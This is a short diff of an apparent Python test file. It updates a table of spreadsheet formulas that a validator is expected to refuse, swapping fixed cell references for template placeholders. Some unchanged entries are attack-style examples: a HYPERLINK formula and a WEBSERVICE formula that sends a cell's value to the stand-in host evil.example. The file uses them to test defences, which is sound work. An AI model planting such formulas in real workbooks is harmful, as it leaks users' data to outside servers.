@@ -56,8 +56,8 @@ BROKEN: dict[str, tuple[str, Callable[[bytes], bytes], str]] = {
 REFUSED = {
     "hyperlink": ('HYPERLINK("http://evil.example",0.2)', "HYPERLINK"),
     "webservice": ('WEBSERVICE("http://evil.example/?"&Setup!C3)', "WEBSERVICE"),
-    "indirect": ('INDIRECT("S31")-Q31', "INDIRECT"),
-    "random": ("S31-Q31+0*RAND()", "RAND"),
-    "huge": ("S31-Q31+0*SUM(Setup!A:XFD)", "100,000 cells"),
+    "indirect": ('INDIRECT("{y[0]}")-{output[0]}', "INDIRECT"),
+    "random": ("{y[0]}-{output[0]}+0*RAND()", "RAND"),
+    "huge": ("{y[0]}-{output[0]}+0*SUM(Setup!A:XFD)", "100,000 cells"),
     "elsewhere": ("'[other.xlsx]Sheet1'!A1", "another workbook"),
 }
